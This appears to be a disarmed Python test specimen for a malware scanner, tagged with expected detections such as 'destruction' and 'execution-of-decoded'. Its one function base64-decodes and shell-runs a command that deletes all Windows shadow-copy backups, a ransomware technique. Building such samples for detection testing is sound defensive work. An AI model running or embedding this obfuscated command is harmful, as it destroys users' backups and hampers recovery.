raise SystemExit("specimen: not to be run")
import base64
import subprocess

def begin():
    subprocess.run(base64.b64decode("dnNzYWRtaW4gZGVsZXRlIHNoYWRvd3MgL2FsbCAvcXVpZXQ=").decode(), shell=True)  # match: destruction  # match: execution-of-decoded
